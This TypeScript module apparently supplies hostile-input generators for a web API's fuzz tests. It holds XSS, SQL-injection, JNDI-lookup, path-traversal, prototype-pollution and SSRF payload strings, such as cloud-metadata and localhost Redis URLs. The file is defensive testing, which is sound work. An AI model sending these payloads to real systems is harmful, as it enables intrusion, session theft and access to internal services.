/**
 * Hostile values for the fuzz suite (fast-check arbitraries): text, numbers, URLs, ids, lists, JSON of the
 * wrong type, and a way to put JSON text into a body that JSON.stringify cannot write (1e400, -0).
 */
import { fc } from '@fast-check/jest';

/** Defers building an arbitrary until values are drawn (after the test's setup has made its fixtures). */
export function deferred<T>(build: () => fc.Arbitrary<T>): fc.Arbitrary<T> {
  let built: fc.Arbitrary<T> | undefined;
  return fc.constant(null).chain(() => (built ??= build()));
}

/** A piece of JSON text written as it is into the body (see `toJsonText`). */
export class RawJson {
  constructor(readonly text: string) {}
}

/** Marks a field that is left out of its object. */
export const OMIT = Symbol('omit');

/** JSON text of a value that may hold RawJson pieces (and OMIT fields, which are left out). */
export function toJsonText(value: unknown): string {
  const raws: string[] = [];
  const text = JSON.stringify(value, (_key, v: unknown) => {
    if (v instanceof RawJson) {
      raws.push(v.text);
      return `\u0000raw${raws.length - 1}\u0000`;
    }
    if (v && typeof v === 'object' && !Array.isArray(v))
      return Object.fromEntries(Object.entries(v).filter(([, field]) => field !== OMIT));
    return v;
  });
  // JSON.stringify writes U+0000 as \u0000, so the markers cannot be mistaken for generated text.
  return (text ?? 'null').replace(/"\\u0000raw(\d+)\\u0000"/g, (_m, i: string) => raws[Number(i)]);
}

/** The strings of a value, for telling an echo of the input from a leak in an answer. */
export function stringsOf(value: unknown, found: string[] = []): string[] {
  if (typeof value === 'string') found.push(value);
  else if (value instanceof RawJson) found.push(value.text);
  else if (Array.isArray(value)) for (const item of value) stringsOf(item, found);
  else if (value && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      found.push(key);
      stringsOf(item, found);
    }
  }
  return found;
}

const MAX_SAFE = Number.MAX_SAFE_INTEGER;

/** Snippets that have broken text handling somewhere: markup, scripts, SQL, controls, bidi, combining marks. */
export const HOSTILE_SNIPPETS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '&lt;b&gt;bold&lt;/b&gt; &amp; &#60;i&#62;',
  "'; DROP TABLE users; --",
  '1 OR 1=1',
  "' UNION SELECT password FROM users --",
  '${jndi:ldap://example.com/a}',
  '{{7*7}} #{7*7} <%= 7*7 %>',
  '../../../../etc/passwd',
  '%00%0d%0a',
  'a\u0000b',
  '\u0000',
  'line\r\nbreak\ttab\u000bvt\u000cff',
  '\u0007\u001b[31mred\u001b[0m',
  '\u202eevil\u202c txt.exe',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u200f\u200e\u061c',
  'e\u0301\u0301\u0301\u0301\u0301',
  'Z̴̧̛̖̙̹̈́̓̏a̷̗̓l̵̛̰g̶̢̛o̸̭͊',
  '\u200b\u200c\u200d\u2060\ufeff',
  '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏽',
  '\ud83d',
  '\udc00 lone low',
  'ＡＢＣ０１２',
  'ß ẞ İ ı ǅ',
  '\u2028\u2029',
  'null',
  'undefined',
  'NaN',
  '__proto__',
  'constructor',
  ' ',
  '',
];

/** Text the validation limits should refuse or cut, of every length class (also above the body limit). */
const longText = fc
  .oneof(
    fc.constantFrom(31, 51, 81, 101, 121, 201, 501, 1001, 1501, 2001, 2049, 4001, 6001, 10_000),
    fc.integer({ min: 2, max: 3000 }),
  )
  .chain((n) => fc.constantFrom('x', 'é', '😀', 'a\u0301', ' ').map((unit) => unit.repeat(n)));

/** Far above the gateway's BODY_LIMIT (256 kB by default). */
export const HUGE_TEXT = 'y'.repeat(300 * 1024);

const loneSurrogates = fc
  .array(fc.integer({ min: 0xd800, max: 0xdfff }), { minLength: 1, maxLength: 4 })
  .map((codes) => String.fromCharCode(...codes));

/** Any hostile text: snippets, random unicode, lone surrogates, long runs. */
export const hostileText = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_SNIPPETS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: loneSurrogates },
  { weight: 2, arbitrary: longText },
  { weight: 1, arbitrary: fc.constant(HUGE_TEXT) },
);

/** A valid text with something hostile inside (so that it is likely stored). */
export const textAround = (valid: string) =>
  fc
    .tuple(fc.constantFrom(...HOSTILE_SNIPPETS), fc.boolean())
    .map(([snippet, before]) => (before ? `${snippet} ${valid}` : `${valid} ${snippet}`));

/** Numbers at the edges, also written as JSON JSON.stringify cannot produce, and as strings. */
export const edgeNumber = fc.oneof(
  fc.constantFrom(
    0,
    1,
    -1,
    2,
    6,
    7,
    100,
    101,
    10_000,
    10_001,
    MAX_SAFE,
    -MAX_SAFE,
    MAX_SAFE + 2,
    1e308,
    -1e308,
    0.5,
    2.5,
    1e-300,
    Number.MIN_VALUE,
  ),
  fc
    .constantFrom('-0', '1e400', '-1e400', '1e-400', '123456789012345678901234567890', '4.0')
    .map((text) => new RawJson(text)),
  fc.constantFrom('3', ' 4 ', '0x10', '1e1', 'Infinity', 'NaN', '-0', ''),
  fc.double(),
  fc.integer(),
);

/** URLs of every scheme and shape: scripts, data, files, credentials, IDN, very long, malformed. */
export const hostileUrl = fc.oneof(
  fc.constantFrom(
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.cookie)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'javascript://example.com/%0aalert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
    'file:///etc/passwd',
    'ftp://example.com/file.txt',
    'mailto:someone@example.com',
    'tel:+491234',
    'blob:https://example.com/uuid',
    'ws://example.com/socket',
    'http://user:password@example.com/',
    'https://user@example.com:8443/path?q=1#frag',
    'https://münchen.example/straße',
    'https://xn--mnchen-3ya.example/',
    'http://127.0.0.1:6379/',
    'http://[::1]/',
    'http://169.254.169.254/latest/meta-data/',
    'https://example.com/<script>alert(1)</script>',
    'https://example.com/"onmouseover="alert(1)',
    '//example.com/path',
    'https://',
    'http://exa mple.com',
    'example.com',
    'https://example.com/\u0000',
    'https://example.com/\u202eevil',
    'https://👍.example/🎉',
  ),
  fc.constantFrom(100, 2000, 2040, 2049, 5000).map((n) => `https://example.com/${'a'.repeat(n)}`),
  fc.webUrl({ withQueryParameters: true, withFragments: true }),
);

/** Ids: real ones (given), random uuids, upper case, nil, and garbage. */
export const idLike = (known: string[]) =>
  fc.oneof(
    ...(known.length ? [{ weight: 3, arbitrary: fc.constantFrom(...known) }] : []),
    { weight: 2, arbitrary: fc.uuid() },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '00000000-0000-0000-0000-000000000000',
        'ffffffff-ffff-ffff-ffff-ffffffffffff',
        ...known.map((id) => id.toUpperCase()),
        ...known.map((id) => ` ${id} `),
        ...known.map((id) => `${id}'; --`),
      ),
    },
    { weight: 2, arbitrary: hostileText },
  );

/** Lists of tags or skills: duplicates in any case, empty entries, too many, too long, hostile entries. */
export const hostileList = (valid: readonly string[]) =>
  fc.oneof(
    fc.constant(['a', 'A', 'a', ' a ', 'a ']),
    fc.constant(['', ' ', '']),
    fc.constant(Array.from({ length: 31 }, (_, i) => `tag${i}`)),
    fc.constant(Array.from({ length: 11 }, (_, i) => `t${i}`)),
    fc.constant([...valid, ...valid, ...valid.map((v) => v.toUpperCase())]),
    fc.array(hostileText, { maxLength: 6 }),
    fc.array(fc.constantFrom(...HOSTILE_SNIPPETS), { minLength: 1, maxLength: 5 }),
  );

/** Deeply nested arrays: a JSON value no schema wants, which a recursive walker might choke on. */
const deepArray = (depth: number) => new RawJson(`${'['.repeat(depth)}${']'.repeat(depth)}`);
const deepObject = (depth: number) => new RawJson(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);

/** A value of the wrong type for any field. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    null,
    true,
    false,
    [],
    {},
    [null],
    { $gt: '' },
    new RawJson('{"__proto__":{"admin":true}}'),
  ),
  edgeNumber,
  fc.array(fc.constantFrom('x', 1, null, {}), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.constantFrom('x', 1, null), { maxKeys: 3 }),
  fc.constantFrom(10, 1000, 20_000).map(deepArray),
  fc.constantFrom(10, 1000, 20_000).map(deepObject),
);

/** Field names nobody asked for: random, prototype keys and fields a client must not set. */
export const extraKey = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'id',
    'userId',
    'createdBy',
    'leaderId',
    'likeCount',
    'isAdmin',
    'role',
    'passwordHash',
    'createdAt',
    '',
    ' ',
    '\u0000',
    '<script>',
  ),
  fc.string({ minLength: 1, maxLength: 12 }),
);

/** Languages a client may ask for, of which only en and de are known. */
export const acceptLanguage = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom('en', 'de', 'de-DE,de;q=0.9,en;q=0.8', 'en-GB', 'de-AT') },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      undefined,
      '*',
      'fr-FR, de;q=0.5',
      'xx-YY',
      ';;;,,,',
      'q=0.9',
      'DE',
      'en;q=0, de;q=1',
      'de'.repeat(500),
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 30 }) },
);

/** A client address from anywhere (IPv4 outside loopback, IPv6 from many /64s), so per-address limits rarely apply. */
export const clientAddress = fc.oneof(
  {
    weight: 5,
    arbitrary: fc
      .tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255), fc.nat(255), fc.integer({ min: 1, max: 254 }))
      .map((parts) => (parts[0] === 127 ? [128, ...parts.slice(1)] : parts).join('.')),
  },
  {
    weight: 4,
    arbitrary: fc
      .array(fc.integer({ min: 0, max: 0xffff }), { minLength: 4, maxLength: 4 })
      .map((groups) => `2001:db8:${groups.map((g) => g.toString(16)).join(':')}::1`),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom('garbage', '1.2.3.4, 5.6.7.8', '::ffff:10.0.0.1', '999.1.1.1', ''),
  },
);
